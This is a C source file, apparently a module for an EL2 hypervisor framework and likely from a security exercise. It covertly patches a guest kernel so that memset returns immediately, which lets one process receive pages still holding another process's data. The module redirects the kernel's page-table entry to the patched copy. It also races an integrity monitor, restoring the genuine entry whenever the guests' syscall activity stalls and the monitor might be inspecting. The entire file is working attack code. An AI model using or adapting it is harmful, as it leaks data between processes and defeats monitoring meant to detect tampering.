/*
 * From a second CPU, hides a patched page of guest 1's kernel whenever the first CPU is at the monitor.
 *
 * The page that holds the kernel's memset is copied to a free frame of the guest, and in the copy memset
 * returns at once, so that a process gets pages as another one left them; the kernel's own table entry
 * then leads to the copy. The CPU that runs the guests is watched
 * by the registers that they save with each system call: when they stand still for too long, the monitor
 * may be walking the tables, and the entry is made what it was until they move again. Runs at EL2.
 */
#include <rw/page_table.h>
#include <rw/sysreg.h>
#include <rw/vmm_api.h>

#include <rw/guest_layout.h>

/* The guest kernel's own header declares its modules' entry point; this module is the VMM's. */
#define module_entry guest_module_entry
#include <guest/kernel.h>
#undef module_entry

/* Counter ticks: how long the race goes on, and how long the guests may stand still. */
#define RACE_TICKS 262144
#define STILL_TICKS 900

#define VICTIM 1
/* A free frame of the victim, by IPA. */
#define COPY_IPA 0x40d00000ull
/* Where the kernel's own tables lie: in its image. */
#define IMAGE_END 0x40200000ull
#define L3_INDEX(address) (((address) >> 12) & (PT_ENTRIES - 1))
#define PAGE_MASK ((uint64_t)RW_PAGE_SIZE - 1)

#define OPCODE_RET 0xd65f03c0u

/* By the guest kernel's published binary. */
extern const uint8_t guest__memset[];
static const volatile uint64_t patched_function = (uint64_t)guest__memset;

/* Of the guest that is looked at. */
static uint64_t ram;

static void *by_ipa(uint64_t ipa) { return (void *)(ram + (ipa - RW_GUEST_IPA_RAM)); }
static void *by_va(const volatile void *va) { return by_ipa(TO_PHYSICAL(va)); }

static const struct rw_guest_layout *find_layout(void) {
  for (uint64_t ipa = RW_GUEST_IPA_IMAGE; ipa < IMAGE_END; ipa += sizeof(uint64_t)) {
    const struct rw_guest_layout *layout = by_ipa(ipa);
    if (layout->magic == RW_GUEST_LAYOUT_MAGIC && layout->size == sizeof *layout) return layout;
  }
  return NULL;
}

/* The kernel's entry for a page of its text: its table maps the neighbours one to one, too. */
static volatile uint64_t *find_entry(uint64_t page) {
  for (uint64_t ipa = RW_GUEST_IPA_IMAGE; ipa < IMAGE_END; ipa += RW_PAGE_SIZE) {
    uint64_t *table = by_ipa(ipa);
    const uint64_t *entry = &table[L3_INDEX(page)], *first = &table[L3_INDEX(RW_GUEST_IPA_RAM)];
    if ((*entry & PT_VALID) == 0 || (*entry & PT_ADDRESS) != page) continue;
    if ((*first & PT_VALID) != 0 && (*first & PT_ADDRESS) == RW_GUEST_IPA_RAM) return &table[L3_INDEX(page)];
  }
  return NULL;
}

/* What changes with each system call of a guest: the argument that its current task's frame holds. */
static uint64_t saved_by(uint64_t guest_ram, const struct rw_guest_layout *layout) {
  ram = guest_ram;
  struct task *const *current = by_va((void *)layout->current);
  const struct task *task = *(struct task *const volatile *)current;
  if (task == NULL) return 0;
  const uint8_t *stack = ((const struct task *)by_va(task))->stack;
  const volatile struct frame *frame = (const struct frame *)by_va(stack + KERNEL_STACK_SIZE) - 1;
  return frame->x[0] + frame->elr;
}

/* Both guests take turns on the CPU that is watched, and have the same kernel. */
static uint64_t heartbeat(const struct rw_vmm_api *api, const struct rw_guest_layout *layout) {
  return saved_by(api->guests[0].ram, layout) + 3 * saved_by(api->guests[1].ram, layout);
}

static void lead_to(volatile uint64_t *entry, uint64_t descriptor) {
  *entry = descriptor;
  __asm__ volatile("dsb ish\n tlbi alle1is\n ic ialluis\n dsb ish\n isb" : : : "memory");
}

RW_MODULE_ENTRY int module_entry(const struct rw_vmm_api *api) {
  ram = api->guests[VICTIM].ram;
  const struct rw_guest_layout *layout = find_layout();
  if (layout == NULL) return 1;
  const uint64_t function = TO_PHYSICAL(patched_function), page = function & ~PAGE_MASK;
  volatile uint64_t *entry = find_entry(page);
  if (entry == NULL) return 2;
  const uint64_t *from = by_ipa(page);
  uint64_t *copy = by_ipa(COPY_IPA);
  for (unsigned i = 0; i < RW_PAGE_SIZE / sizeof *copy; i++) copy[i] = from[i];
  *(uint32_t *)((uint8_t *)copy + (function & PAGE_MASK)) = OPCODE_RET;
  const uint64_t own = *entry, forged = (own & ~PT_ADDRESS) | COPY_IPA;

  const uint64_t start = read_sysreg(CNTPCT_EL0);
  uint64_t seen = 0, moved = start, now = start;
  bool hidden = true;
  while (now - start < RACE_TICKS) {
    const uint64_t beat = heartbeat(api, layout);
    now = read_sysreg(CNTPCT_EL0);
    if (beat != seen) {
      seen = beat;
      moved = now;
    }
    /* Looked at once more: time may have passed between the two readings. */
    const bool hide = now - moved > STILL_TICKS && heartbeat(api, layout) == seen;
    if (hide != hidden) lead_to(entry, hide ? own : forged);
    hidden = hide;
  }
  lead_to(entry, own);
  return 0;
}
